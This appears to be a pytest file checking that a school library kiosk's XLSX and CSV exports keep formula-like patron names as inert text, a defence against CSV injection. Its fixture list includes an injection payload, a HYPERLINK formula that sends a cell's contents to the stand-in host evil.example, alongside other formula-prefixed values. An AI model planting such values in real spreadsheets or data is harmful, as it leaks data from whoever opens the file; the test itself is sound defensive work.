"""Names that look like formulas stay text in every spreadsheet the librarian hands out (docs/security.md,
"Anyone who can name a reader"): the overdue list for the homeroom teacher and the patron export,
downloaded over HTTP and opened as Excel would read them (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest

from kiosk.db import write_transaction
from kiosk.ledger import apply_many
from tests.conftest import patron_fact

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
         "\tTab Trần", "\rCR Lê"]


@pytest.fixture
def librarian(client, school, clock):
    # Written as an older version (or another program) could have: today a name with a tab or a
    # line break is refused before it is stored (kiosk.ledger.check_facts), the export must not trust it.
    with write_transaction():
        apply_many("patron.upsert", [patron_fact(f"HSX{n}", name, class_name="9Z9")[1] for n, name in enumerate(NAMES)])
    for n in range(len(NAMES)):
        school.record_facts([("catalog.upsert", {"item": f"X-{n}", "title": f"Sách {n}", "category": "TN",
                                                 "isbn": None, "author": ""})])
        school.checkout(f"HSX{n}", f"X-{n}")
    clock.set(clock.moment + timedelta(days=30))
    token = CSRF.search(client.get("/admin/login").get_data(as_text=True)).group(1)
    assert client.post("/admin/login", data={"pin": "1234", "csrf_token": token}).status_code == 302
    return client


def _no_formula_in_xlsx(data: bytes) -> list[str]:
    """Every cell of every sheet that Excel would evaluate (<f> elements), read from the file itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if b"<f>" in book.read(name) or b"<f " in book.read(name)]


def _texts_in_xlsx(data: bytes) -> list[str]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "s" and isinstance(cell.value, str)]


@pytest.mark.parametrize("path", ["/admin/overdue/9Z9.xlsx", "/admin/export/patrons.xlsx"])
def test_xlsx_names_stay_text(librarian, path):
    answer = librarian.get(path)
    assert answer.status_code == 200, path
    assert _no_formula_in_xlsx(answer.data) == []
    texts = _texts_in_xlsx(answer.data)
    assert NAMES[0] in texts  # the name itself, as text


@pytest.mark.parametrize("path", ["/admin/overdue/9Z9.csv", "/admin/export/patrons.csv"])
def test_csv_cells_that_excel_would_run_start_with_an_apostrophe(librarian, path):
    answer = librarian.get(path)
    assert answer.status_code == 200, path
    cells = [cell for row in csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))) for cell in row]
    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert "'" + NAMES[0] in cells and "'+SUM(1,2)" in cells
